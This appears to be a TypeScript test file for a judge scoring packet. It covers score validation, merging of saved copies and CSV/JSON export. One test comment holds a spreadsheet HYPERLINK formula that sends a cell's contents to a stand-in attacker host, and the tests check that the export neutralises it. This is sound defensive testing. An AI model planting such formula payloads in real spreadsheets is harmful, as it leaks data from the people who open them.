/**
 * The judge packet's browser logic, run in Node: score validation, merging two open copies of the
 * packet, and building the exports (with spreadsheet formulas neutralised in the CSV).
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { restoreCsvCell } from '../../../src/lib/csv-cell.ts';
import { parsePacketExport } from '../../../src/lib/awards/packet.ts';
import type { PacketData } from '../../../src/tools/packet/data.ts';
import { csvField, exportCsv, exportJson, scoredRows } from '../../../src/tools/packet/export.ts';
import { leftOutText, orphanCommentsText } from '../../../src/tools/packet/messages.ts';
import { readSaved, Scorebook } from '../../../src/tools/packet/scorebook.ts';
import { onScale, readTypedScore, snap } from '../../../src/tools/packet/scores.ts';

const half = { min: 1, max: 5, step: 0.5 };

const data: PacketData = {
	storageKey: 'credence-packet:demo-awards:round-1:ana-lyst',
	format: 'credence-scores/1',
	program: 'demo-awards',
	round: 'round-1',
	judge: 'ana-lyst',
	scale: half,
	scaleText: '1 to 5 in steps of 0.5',
	criteria: ['impact', 'originality'],
	entries: ['quarry-planning', 'night-shift-routing'],
	files: { json: 'demo-awards-round-1-ana-lyst.json', csv: 'demo-awards-round-1-ana-lyst.csv' },
};

/** A scorebook whose clock reads the given times in turn (then keeps the last). */
function bookAt(...times: number[]) {
	let k = 0;
	return new Scorebook(data, () => times[Math.min(k++, times.length - 1)]);
}

describe('scores', () => {
	it('accepts only numbers within the bounds and on a step, allowing for float error', () => {
		for (const n of [1, 1.5, 4.5, 5, 4.5000000001, 0.1 + 0.2 + 2.7]) expect(onScale(half, n)).toBe(true);
		for (const n of [0.5, 5.5, 1.25, Number.NaN, Infinity, '3', null, undefined]) expect(onScale(half, n)).toBe(false);
		expect(snap(half, 4.5000000001)).toBe(4.5);
		expect(snap({ min: 0, max: 1, step: 0.1 }, 0.30000000000000004)).toBe(0.3);
	});

	it('reads a typed score as empty, a step of the scale, or not valid', () => {
		const hundred = { min: 0, max: 100, step: 1 };
		expect(readTypedScore(hundred, '  ', false)).toEqual({ kind: 'empty' });
		// A half-typed number ("1e") reads as '' with the browser's badInput flag: not empty, not valid.
		expect(readTypedScore(hundred, '', true)).toEqual({ kind: 'invalid' });
		expect(readTypedScore(hundred, ' 42.0000000001 ', false)).toEqual({ kind: 'valid', score: 42 });
		for (const raw of ['150', '-1', '42.5', 'abc']) expect(readTypedScore(hundred, raw, false)).toEqual({ kind: 'invalid' });
	});
});

describe('Scorebook', () => {
	it('keeps scores and comments per cell, and clears them', () => {
		const book = bookAt(1, 2, 3, 4);
		book.setScore('quarry-planning', 'impact', 4.5);
		book.setComment('quarry-planning', 'impact', 'Strong.');
		expect(book.score('quarry-planning', 'impact')).toBe(4.5);
		expect(book.comment('quarry-planning', 'impact')).toBe('Strong.');
		expect(book.scoredCount('quarry-planning')).toBe(1);
		book.setScore('quarry-planning', 'originality', 3);
		expect(book.completeCount()).toBe(1);
		book.setScore('quarry-planning', 'impact', undefined);
		expect(book.score('quarry-planning', 'impact')).toBeUndefined();
		expect(book.saved().scores['quarry-planning'].impact).toEqual({ v: null, t: 4 });
	});

	it('stamps every change later than anything it has seen, even on the same millisecond', () => {
		const book = bookAt(100, 100, 100);
		book.merge({ version: 2, scores: { 'quarry-planning': { impact: { v: 2, t: 500 } } }, comments: {} });
		book.setScore('quarry-planning', 'impact', 3);
		expect(book.saved().scores['quarry-planning'].impact).toEqual({ v: 3, t: 501 });
		book.setScore('quarry-planning', 'originality', 4);
		expect(book.saved().scores['quarry-planning'].originality).toEqual({ v: 4, t: 502 });
	});

	it('merges two copies cell by cell, the newest value winning, and reports what changed', () => {
		const a = bookAt(10, 20, 30);
		const b = bookAt(15, 25);
		a.setScore('quarry-planning', 'impact', 4); // t 10
		a.setComment('quarry-planning', 'impact', 'Typed in A.'); // t 20
		b.setScore('quarry-planning', 'impact', 2); // t 15: newer than A's score
		b.setComment('night-shift-routing', 'originality', 'Typed in B.'); // t 25
		const fromB = JSON.parse(JSON.stringify(b.saved()));
		expect(a.merge(fromB)).toEqual([
			['quarry-planning', 'impact'],
			['night-shift-routing', 'originality'],
		]);
		expect(a.score('quarry-planning', 'impact')).toBe(2);
		expect(a.comment('quarry-planning', 'impact')).toBe('Typed in A.');
		expect(a.comment('night-shift-routing', 'originality')).toBe('Typed in B.');
		// Merging the same record again changes nothing; an older value never overwrites a newer one.
		expect(a.merge(fromB)).toEqual([]);
		a.setScore('quarry-planning', 'impact', 5); // t 30
		expect(a.merge(fromB)).toEqual([]);
		expect(a.score('quarry-planning', 'impact')).toBe(5);
		// A cleared cell is a value too: the newer clear wins.
		expect(a.merge({ version: 2, scores: { 'quarry-planning': { impact: { v: null, t: 31 } } } })).toEqual([['quarry-planning', 'impact']]);
		expect(a.score('quarry-planning', 'impact')).toBeUndefined();
	});

	it('keeps only what fits this packet from a saved record, whatever it holds', () => {
		const book = bookAt(1);
		const saved = {
			version: 2,
			scores: {
				'quarry-planning': { impact: { v: 7, t: 5 }, originality: { v: 3.5000000001, t: 5 }, unknown: { v: 3, t: 5 } },
				'not-in-this-packet': { impact: { v: 3, t: 5 } },
				'night-shift-routing': { impact: { v: 3, t: 'soon' }, originality: 'x' },
			},
			comments: { 'quarry-planning': { impact: { v: 42, t: 5 }, originality: { v: '<b>hi</b>', t: 5 } } },
		};
		expect(book.merge(saved)).toEqual([['quarry-planning', 'originality']]);
		expect(book.score('quarry-planning', 'impact')).toBeUndefined();
		expect(book.score('quarry-planning', 'originality')).toBe(3.5);
		expect(book.comment('quarry-planning', 'impact')).toBe('');
		expect(book.comment('quarry-planning', 'originality')).toBe('<b>hi</b>');
		for (const junk of [null, 3, 'text', [], { scores: 5 }, { scores: { 'quarry-planning': null } }]) expect(book.merge(junk)).toEqual([]);
		expect(readSaved('{not json')).toBeNull();
		expect(readSaved(null)).toBeNull();
	});

	it('reads version 1 records (bare values) as older than anything stamped', () => {
		const book = bookAt(1);
		expect(book.merge({ scores: { 'quarry-planning': { impact: 4 } }, comments: { 'quarry-planning': { impact: 'Old.' } } })).toEqual([['quarry-planning', 'impact']]);
		expect(book.score('quarry-planning', 'impact')).toBe(4);
		expect(book.saved().scores['quarry-planning'].impact.t).toBe(0);
		book.setScore('quarry-planning', 'impact', 2);
		expect(book.merge({ scores: { 'quarry-planning': { impact: 4 } } })).toEqual([]);
	});
});

describe('exports', () => {
	const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';

	function scoredBook() {
		const book = bookAt(1, 2, 3, 4, 5);
		book.setScore('quarry-planning', 'impact', 4.5);
		book.setComment('quarry-planning', 'impact', '  Strong, "audited" results.\n');
		book.setScore('quarry-planning', 'originality', 3);
		book.setComment('night-shift-routing', 'impact', HYPERLINK);
		book.setScore('night-shift-routing', 'impact', 1);
		return book;
	}

	it('exports only scored criteria, in page order, with trimmed comments', () => {
		expect(scoredRows(scoredBook())).toEqual([
			{ entry: 'quarry-planning', criterion: 'impact', score: 4.5, comment: 'Strong, "audited" results.' },
			{ entry: 'quarry-planning', criterion: 'originality', score: 3, comment: '' },
			{ entry: 'night-shift-routing', criterion: 'impact', score: 1, comment: HYPERLINK },
		]);
	});

	it('writes a JSON score file the importer accepts, comments as typed', () => {
		const rows = scoredRows(scoredBook());
		const text = exportJson(data, rows, '2026-10-14T09:30:00.000Z');
		expect(text.endsWith('}\n')).toBe(true);
		expect(parsePacketExport(text)).toEqual({
			ok: true,
			value: { format: 'credence-scores/1', program: 'demo-awards', round: 'round-1', judge: 'ana-lyst', exportedAt: '2026-10-14T09:30:00.000Z', scores: rows },
		});
	});

	it('writes a CSV sheet in which a formula comment is text, and nothing else changes', () => {
		const text = exportCsv(data, scoredRows(scoredBook()));
		expect(text).toContain(`night-shift-routing,impact,1,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"\n`);
		const records: string[][] = parse(text);
		expect(records[0]).toEqual(['judge', 'entry', 'criterion', 'score', 'comment']);
		expect(records.slice(1).map((r) => r.map(restoreCsvCell))).toEqual([
			['ana-lyst', 'quarry-planning', 'impact', '4.5', 'Strong, "audited" results.'],
			['ana-lyst', 'quarry-planning', 'originality', '3', ''],
			['ana-lyst', 'night-shift-routing', 'impact', '1', HYPERLINK],
		]);
		// Every other leading character a spreadsheet reads as a formula is neutralised too; a negative score is a number, not text.
		for (const start of ['+', '-', '@', '\t', '\r']) expect(exportCsv(data, [{ entry: 'e', criterion: 'c', score: -1, comment: `${start}cmd` }])).toMatch(new RegExp(`,-1,"?'\\${start}cmd`));
	});

	it('quotes CSV fields only when they need it', () => {
		expect(csvField('plain')).toBe('plain');
		expect(csvField('a,b')).toBe('"a,b"');
		expect(csvField('say "hi"')).toBe('"say ""hi"""');
		expect(csvField('two\nlines')).toBe('"two\nlines"');
		expect(csvField(' padded')).toBe('" padded"');
	});

	it('words what an export leaves out', () => {
		expect(orphanCommentsText(1)).toBe('1 comment is on a criterion without a score, so it is not in the file: score that criterion or clear the comment.');
		expect(orphanCommentsText(2)).toMatch(/^2 comments are on criteria without a score/);
		expect(leftOutText(0)).toBe('');
		expect(leftOutText(2)).toBe(' 2 comments on criteria without a score are not in the file.');
	});
});
